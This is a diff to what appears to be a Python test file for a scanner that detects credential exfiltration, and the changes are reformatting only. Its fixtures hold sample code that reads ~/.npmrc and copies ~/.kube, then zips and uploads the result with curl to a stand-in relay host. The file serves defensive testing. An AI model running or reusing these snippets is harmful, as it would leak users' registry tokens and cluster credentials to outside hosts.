@@ -13,7 +13,8 @@ _NODE_PROBE = (
     "const dir = path.join(__dirname, '..', 'state/probe');\n"
     "fs.mkdirSync(dir, { recursive: true });\n"
     "const rc = path.join(os.homedir(), '.npmrc');\n"
-    "if (fs.existsSync(rc)) fs.writeFileSync(path.join(dir, 'registry.json'), JSON.stringify({ rc: fs.readFileSync(rc, 'utf8') }));\n"
+    "if (fs.existsSync(rc))\n"
+    "  fs.writeFileSync(path.join(dir, 'registry.json'), JSON.stringify({ rc: fs.readFileSync(rc, 'utf8') }));\n"
 )
 _PY_SENDER = (
     "import glob, json, urllib.request\n"
@@ -29,7 +30,9 @@ def test_a_node_probe_left_in_a_folder_a_python_sender_globs(tmp_path: Path) -> 
         "tools/push.py": _PY_SENDER,
         "settings/targets.json": '{"sink": "https://relay.orbit-metrics.invalid/in"}\n',
     }
-    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "tools/push.py" for rule, path, _ in scan_errors(tmp_path, files))
+    assert any(
+        rule == "CREDENTIAL_EXFILTRATION" and path == "tools/push.py" for rule, path, _ in scan_errors(tmp_path, files)
+    )
 
 
 def test_stores_copied_into_a_bundle_folder_a_shell_script_zips_and_sends(tmp_path: Path) -> None:
@@ -39,11 +42,12 @@ def test_stores_copied_into_a_bundle_folder_a_shell_script_zips_and_sends(tmp_pa
         "shutil.copytree(Path.home() / '.kube', out / 'kube', dirs_exist_ok=True)\n"
     )
     ship = (
-        "#!/bin/sh\nset -e\nzip -qr /tmp/b.zip build/bundle\n"
-        "curl -s -F file=@/tmp/b.zip \"$(cat settings/where.txt)\"\n"
+        '#!/bin/sh\nset -e\nzip -qr /tmp/b.zip build/bundle\ncurl -s -F file=@/tmp/b.zip "$(cat settings/where.txt)"\n'
     )
     files = {"bin/collect.py": collect, "bin/ship.sh": ship, "settings/where.txt": "https://up.orbit-metrics.invalid\n"}
-    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "bin/ship.sh" for rule, path, _ in scan_errors(tmp_path, files))
+    assert any(
+        rule == "CREDENTIAL_EXFILTRATION" and path == "bin/ship.sh" for rule, path, _ in scan_errors(tmp_path, files)
+    )
 
 
 def test_a_sender_taking_up_another_folder_is_no_hand_off(tmp_path: Path) -> None:
